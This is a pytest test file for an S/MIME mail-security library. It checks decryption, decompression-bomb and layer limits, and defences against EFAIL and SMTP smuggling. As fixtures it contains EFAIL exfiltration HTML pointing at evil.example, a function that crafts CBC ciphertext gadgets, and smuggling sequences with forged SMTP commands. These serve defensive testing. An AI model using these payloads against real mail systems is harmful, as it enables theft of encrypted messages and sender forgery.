"""Encrypted and compressed layers: opened, handed on, or kept back, and what their readers get."""

from __future__ import annotations

import base64
import os
import re
import zlib
from types import SimpleNamespace
from typing import Any

import pytest

from mailsec.algorithms.profiles import PROFILES
from mailsec.asn1 import writer
from mailsec.cms.compressed import compress
from mailsec.cms.encrypt import encrypt_content
from mailsec.errors import KeyUnavailable
from mailsec.interfaces import run_now
from mailsec.keys.software import SoftwareBackend, SoftwareKey
from mailsec.model.limits import Limits
from mailsec.model.octets import Segments
from mailsec.testing.memory import MemoryScratch

HEAD = b"From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: outside\r\nX-Trace: kept\r\n"
TEXT = b"Content-Type: text/plain\r\n\r\nGood day.\r\n"


@pytest.fixture(scope="session")
def reader(people: SimpleNamespace) -> SoftwareKey:
    found: SoftwareKey = people.bob
    return found


@pytest.fixture(scope="session")
def other(people: SimpleNamespace) -> SoftwareKey:
    found: SoftwareKey = people.ca.person("carol@example.org", "rsa-2048")
    return found


def envelope(content: bytes, *keys: SoftwareKey, cipher: str = "aes-256-gcm") -> bytes:
    certificates = [key.certificate for key in keys if key.certificate is not None]
    found = encrypt_content(Segments((content,)), certificates, backend=SoftwareBackend(), random=os.urandom, cipher=cipher)
    return run_now(found).join()


def carried(der: bytes, head: bytes = HEAD, kind: bytes = b"enveloped-data") -> bytes:
    lines = base64.encodebytes(der).replace(b"\n", b"\r\n")
    label = b"Content-Type: application/pkcs7-mime; smime-type=" + kind + b"; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return head + label + lines


def clear_of(result: Any) -> bytes:
    assert result.clear is not None, result
    return b"".join(result.clear.blocks())


def codes(result: Any) -> set[str]:
    return {reason.code for reason in result.reasons} | {reason.code for layer in result.layers for reason in layer.reasons}


@pytest.mark.parametrize("cipher", ["aes-256-gcm", "aes-256-cbc"])
def test_an_encrypted_message_is_opened_for_its_reader(smime: SimpleNamespace, reader: SoftwareKey, cipher: str) -> None:
    data = carried(envelope(TEXT, reader, cipher=cipher))
    result = smime.peel(data, keys=[reader])
    assert result.encrypted and not result.signed and result.layers[0].opened is True and result.layers[0].algorithm == cipher
    assert b"".join(result.plaintext.blocks()) == TEXT and result.text == "Good day."
    assert clear_of(result) == HEAD + b"MIME-Version: 1.0\r\n" + TEXT
    assert result.layers[0].type == ("auth-enveloped-data" if cipher.endswith("gcm") else "enveloped-data")


def test_signed_then_encrypted_keeps_the_signature_octet_for_octet(people: SimpleNamespace, smime: SimpleNamespace, reader: Any) -> None:
    signed = smime.sign(HEAD + TEXT, people.alice)
    inner = signed[signed.index(b"Content-Type: multipart/signed") :]
    data = carried(envelope(inner, reader))
    verdict = smime.judge(data, people.ca, keys=[reader])
    assert verdict.trusted and verdict.encrypted and verdict.signed and [layer.type for layer in verdict.layers][1:] == ["signed-data"]
    clear = clear_of(smime.peel(data, keys=[reader]))
    assert clear.endswith(inner) and smime.judge(clear, people.ca).trusted


def test_a_triple_wrapped_message_is_opened(people: SimpleNamespace, smime: SimpleNamespace, reader: SoftwareKey) -> None:
    signed = smime.sign(HEAD + TEXT, people.alice)
    sealed = carried(envelope(signed[signed.index(b"Content-Type: multipart/signed") :], reader))
    data = smime.sign(sealed, people.alice)
    verdict = smime.judge(data, people.ca, keys=[reader])
    assert verdict.trusted and [layer.type for layer in verdict.layers] == ["signed-data", "auth-enveloped-data", "signed-data"]
    assert smime.judge(clear_of(smime.peel(data, keys=[reader])), people.ca).trusted


@pytest.mark.parametrize("damage", ["key", "content", "tag"])
@pytest.mark.parametrize("cipher", ["aes-256-gcm", "aes-256-cbc"])
def test_every_failure_is_one_answer_and_exposes_nothing(smime: SimpleNamespace, reader: Any, damage: str, cipher: str) -> None:
    der = bytearray(envelope(TEXT, reader, cipher=cipher))
    encrypted_key = der.index(b"\x04\x82\x01\x00") + 4
    der[{"key": encrypted_key + 100, "content": -20 if cipher.endswith("gcm") else -17, "tag": -1}[damage]] ^= 1
    made: list[MemoryScratch] = []

    def scratch() -> MemoryScratch:
        made.append(MemoryScratch())
        return made[-1]

    from mailsec.mime.index import index_message
    from mailsec.model.octets import BytesOctets
    from mailsec.smime.unprotect import unprotect_message

    message = index_message(BytesOctets(carried(bytes(der))))
    result = run_now(unprotect_message(message, keys=[reader], backend=SoftwareBackend(), scratch=scratch, work=smime.work))
    if cipher.endswith("cbc") and result.layers[0].opened:
        pytest.skip("CBC: this change left the padding right")
    assert result.layers[0].opened is False and codes(result) == {"cannot-decrypt"}
    assert result.clear is None and result.plaintext is None and result.text is None and result.content is None
    assert made and all(one.discarded for one in made)


def test_a_message_for_somebody_else_is_not_opened(smime: SimpleNamespace, reader: SoftwareKey, other: SoftwareKey) -> None:
    data = carried(envelope(TEXT, other))
    assert codes(smime.peel(data, keys=[reader])) == {"no-key"}
    assert codes(smime.peel(data)) == {"not-opened"}


def test_a_token_that_is_out_is_told(smime: SimpleNamespace, reader: SoftwareKey) -> None:
    class Out:
        certificate = reader.certificate
        name = "out"

        async def unwrap(self, mechanism: object, wrapped: bytes) -> bytes:
            raise KeyUnavailable("the token is out")

    with pytest.raises(KeyUnavailable):
        smime.peel(carried(envelope(TEXT, reader)), keys=[Out()])


def test_keys_are_used_a_limited_number_of_times_over_all_layers(smime: SimpleNamespace, reader: SoftwareKey) -> None:
    used = 0

    class Counted:
        certificate = reader.certificate
        name = "counted"

        async def unwrap(self, mechanism: Any, wrapped: bytes) -> bytes:
            nonlocal used
            used += 1
            return await reader.unwrap(mechanism, wrapped)

    data = TEXT
    for _ in range(6):
        data = carried(envelope(data, reader), b"")
    result = smime.peel(HEAD + data, keys=[Counted()], limits=Limits(private_key_operations=4))
    assert used == 4 and "limit-private-key-operations" in codes(result)


def test_matryoshkas_end_at_the_limit_of_layers(smime: SimpleNamespace, reader: SoftwareKey) -> None:
    data = TEXT
    for _ in range(12):
        data = carried(compress(Segments((data,)), MemoryScratch).join(), b"", b"compressed-data")
    result = smime.peel(HEAD + data)
    assert len(result.layers) == 10 and "limit-cms-layers" in codes(result)


def test_a_compressed_message_is_inflated(people: SimpleNamespace, smime: SimpleNamespace) -> None:
    signed = smime.sign(HEAD + TEXT, people.alice)
    inner = signed[signed.index(b"Content-Type: multipart/signed") :]
    data = carried(compress(Segments((inner,)), MemoryScratch).join(), kind=b"compressed-data")
    assert smime.judge(data, people.ca).trusted
    result = smime.peel(data)
    assert not result.encrypted and clear_of(result).endswith(inner)


def test_a_bomb_is_a_limit(smime: SimpleNamespace) -> None:
    data = carried(compress(Segments((bytes(20_000_000),)), MemoryScratch).join(), kind=b"compressed-data")
    result = smime.peel(data)
    assert codes(result) == {"limit-decompressed-ratio"} and result.clear is None and result.content is None


# -- EFAIL ------------------------------------------------------------------------------------------------------------------------


def test_efail_direct_exfiltration_is_not_joined_with_what_surrounds_it(smime: SimpleNamespace, reader: SoftwareKey) -> None:
    sealed = carried(envelope(b"Content-Type: text/html\r\n\r\nsecret", reader), b"")
    html = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
    data = HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" + html + b"\r\n--b\r\n" + sealed
    data += b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    result = smime.peel(data, keys=[reader])
    assert result.layers[0].opened and not result.layers[0].covers_all
    assert result.clear is None and {"not-released", "partly-covered"} <= codes(result)


def gadget(der: bytes, plain: bytes, inserted: bytes) -> bytes:
    """The CBC gadget: from the known first block of the content, chosen blocks with a random one before each are put in front."""
    at = der.index(bytes.fromhex("060960864801650304012a0410")) + 13
    iv, first = der[at : at + 16], der[-len(plain) - (16 - len(plain) % 16) :][:16]
    mask = bytes(a ^ b for a, b in zip(iv, plain[:16], strict=True))
    blocks = b""
    for start in range(0, len(inserted), 16):
        chosen = inserted[start : start + 16].ljust(16)
        blocks += bytes(a ^ b for a, b in zip(mask, chosen, strict=True)) + first
    body = der[-len(plain) - (16 - len(plain) % 16) :]
    # The first chosen block takes the place of the IV; what follows is IV | C0 | C1 …
    content = blocks[16:] + iv + body
    info = writer.oid("1.2.840.113549.1.7.1") + der[at - 15 : at] + blocks[:16] + writer.header(0x80, len(content)) + content
    version_and_infos = re.search(rb"\x02\x01\x00(1\x82.*?)0\x80|\x02\x01\x00(1\x82..)", der, re.DOTALL)
    assert version_and_infos is not None
    front = der.index(b"\x02\x01\x00")
    size = int.from_bytes(der[front + 5 : front + 7], "big")
    inner = der[front : front + 7 + size] + writer.sequence(info)
    return writer.sequence(writer.oid("1.2.840.113549.1.7.3"), writer.explicit(0, writer.sequence(inner)))


def test_efail_cbc_gadgets_are_not_handed_on(smime: SimpleNamespace, reader: SoftwareKey) -> None:
    plain = b"Content-Type: text/html\r\n\r\n<p>the secret plan</p>\r\n"
    der = gadget(envelope(plain, reader, cipher="aes-256-cbc"), plain, b"Content-Type: text/html\r\n\r\n<base href='http://evil.example/")
    result = smime.peel(carried(der), keys=[reader])
    assert result.layers[0].opened and b"il.example" in b"".join(result.plaintext.blocks())
    assert "altered-cipher-text" in codes(result) and result.clear is None and result.text is None


@pytest.mark.parametrize(
    "content",
    [
        b"Content-Type: text/plain\r\n\r\nG\xf3od day",
        b"Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\na\x00b",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n\x99\x98\x97",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\na\x99=41",
        b"Content-Type: text/html\r\nX-\x93\x92: a\r\n\r\nhello",
        b"no header at all, and no text \x07 either",
        b"Content-Type: text/html\r\nno field\r\n\r\nhello",
    ],
)
def test_efail_signs_keep_cbc_text_back_and_not_gcm_text(people: Any, smime: SimpleNamespace, reader: SoftwareKey, content: bytes) -> None:
    assert "altered-cipher-text" in codes(smime.peel(carried(envelope(content, reader, cipher="aes-256-cbc")), keys=[reader]))
    assert smime.peel(carried(envelope(content, reader)), keys=[reader]).clear is not None
    # An intact signature inside says that nothing was altered.
    signed = smime.sign(HEAD + content, people.alice, form="opaque")
    inner = signed[signed.index(b"Content-Type: application/pkcs7-mime") :]
    assert smime.peel(carried(envelope(inner, reader, cipher="aes-256-cbc")), keys=[reader]).clear is not None


@pytest.mark.parametrize(
    "content",
    [
        b"\r\nno header, as RFC 822 had it\r\n",
        b"no header at all, and no field in it either\r\n",
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\ngrüße\r\n".encode(),
        b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B$3\x1b(B\r\n",
        b"Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\n\r\n\x01\x02\x03",
    ],
)
def test_honest_cbc_text_is_handed_on(smime: SimpleNamespace, reader: SoftwareKey, content: bytes) -> None:
    assert smime.peel(carried(envelope(content, reader, cipher="aes-256-cbc")), keys=[reader]).clear is not None


# -- what passes from inside to outside -----------------------------------------------------------------------------------------------

SMUGGLING = [
    b"\n.\n",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r",
    b"\r\n.\r",
    b"\r.\r\n",
    b"\n\n.\r\n",
    b"\r\n\x00.\r\n",
    b"\x00\r\n.\r\n",
    b"\r\n.\r\n",
]
COMMANDS = b"MAIL FROM:<admin@example.org>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\nFrom: admin@example.org\r\n\r\nforged\r\n"


@pytest.mark.parametrize("sequence", SMUGGLING)
@pytest.mark.parametrize("way", ["cms", "compressed", "base64 in cms", "multipart", "signed inside"])
def test_smuggling_out_of_a_layer_is_normalised(people: Any, smime: SimpleNamespace, reader: Any, sequence: bytes, way: str) -> None:
    body = b"hello" + sequence + COMMANDS
    content = b"Content-Type: text/plain\r\n\r\n" + body
    if way == "base64 in cms":
        content = b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(body).replace(
            b"\n", b"\r\n"
        )
    elif way == "multipart":
        content = b"Content-Type: multipart/mixed; boundary=b\r\n\r\npreamble" + sequence + b"\r\n--b\r\n" + content + b"\r\n--b--\r\n"
    elif way == "signed inside":
        content = b'Content-Type: multipart/signed; boundary=b; protocol="application/pkcs7-signature"\r\n\r\n--b\r\n' + content
        content += b"\r\n--b\r\nContent-Type: application/pkcs7-signature\r\n\r\nMAA=\r\n--b--\r\n"
    if way == "compressed":
        result = smime.peel(carried(compress(Segments((content,)), MemoryScratch).join(), kind=b"compressed-data"))
    else:
        result = smime.peel(carried(envelope(content, reader)), keys=[reader])
    clear = clear_of(result)
    assert b"\x00" not in clear and clear.count(b"\r\n") == clear.count(b"\r") == clear.count(b"\n")
    if way != "base64 in cms" and sequence.replace(b"\r\n", b"") != b".":
        assert "normalised" in codes(result)
    if way == "cms" and sequence == b"\r\n.\r\n":
        assert "dot-line" in codes(result) and clear.endswith(body)


@pytest.mark.parametrize("end", [b"\r", b"\n", b"\x00", b"\r\n"])
def test_no_other_field_than_content_fields_leaves_a_layer(smime: SimpleNamespace, reader: SoftwareKey, end: bytes) -> None:
    inside = (
        b"Content-Type: text/plain\r\nFrom: ceo@example.org\r\nSubject: inside\r\nAuthentication-Results: gw; smime=pass\r\n"
        b"Received: from nowhere\r\nBcc: x@example.org\r\nX-Evil: 1\r\nContent-Description: a"
        + end
        + b"From: ceo@example.org\r\n\r\nhi\r\n"
    )
    clear = clear_of(smime.peel(carried(envelope(inside, reader)), keys=[reader]))
    from mailsec.mime.index import index_message
    from mailsec.model.octets import BytesOctets

    message = index_message(BytesOctets(clear))
    assert {field.name for field in message.fields} == {
        "from", "to", "subject", "x-trace", "mime-version", "content-type", "content-description"
    }  # fmt: skip
    assert message.values("from") == ["Alice <alice@example.org>"] and message.values("subject") == ["outside"]
    assert clear.count(b"\r\n") == clear.count(b"\r") == clear.count(b"\n")


def test_content_with_lf_is_delivered_with_crlf_and_kept_octet_for_octet(smime: SimpleNamespace, reader: SoftwareKey) -> None:
    content = TEXT.replace(b"\r\n", b"\n")
    result = smime.peel(carried(envelope(content, reader)), keys=[reader])
    assert b"".join(result.plaintext.blocks()) == content and clear_of(result).endswith(TEXT)


def test_text_without_a_header_is_delivered_whole(smime: SimpleNamespace, reader: SoftwareKey) -> None:
    for content in (b"dear bob\r\n\r\nFrom: ceo@example.org\r\n", b"dear bob", b"dear bob\n\nmore\n"):
        result = smime.peel(carried(envelope(content, reader)), keys=[reader])
        assert clear_of(result) == HEAD + b"MIME-Version: 1.0\r\n\r\n" + b"\r\n".join(content.replace(b"\r\n", b"\n").split(b"\n"))
        assert "no-mime-header" in codes(result) and result.text is not None and result.text.startswith("dear bob")


def test_weak_ciphers_are_opened_only_where_that_is_allowed(smime: SimpleNamespace, vectors: Any) -> None:
    from mailsec.keys.files import load_certificates, load_private_key

    folder = vectors / "rfc4134-examples"
    bob = SoftwareKey(
        "bob",
        load_private_key((folder / "BobPrivRSAEncrypt.pri").read_bytes(), None),
        certificate=load_certificates((folder / "BobRSASignByCarl.cer").read_bytes())[0],
    )
    for name in ("5.1.bin", "5.2.bin"):
        data = carried((folder / name).read_bytes())
        assert codes(smime.peel(data, keys=[bob])) == {"weak-cipher"}
        result = smime.peel(data, keys=[bob], profile=PROFILES["legacy"])
        assert b"".join(result.plaintext.blocks()) == (folder / "ExContent.bin").read_bytes()


def test_any_octets_inside_end_in_a_result(smime: SimpleNamespace, reader: SoftwareKey) -> None:
    for content in (b"", b"\x00", b"\r", b"\n", b"Content-Type:", b"\xff" * 100, zlib.compress(TEXT), envelope(TEXT, reader)):
        for cipher in ("aes-128-gcm", "aes-128-cbc"):
            result = smime.peel(carried(envelope(content, reader, cipher=cipher)), keys=[reader])
            assert result.layers[0].opened and b"".join(result.plaintext.blocks()) == content
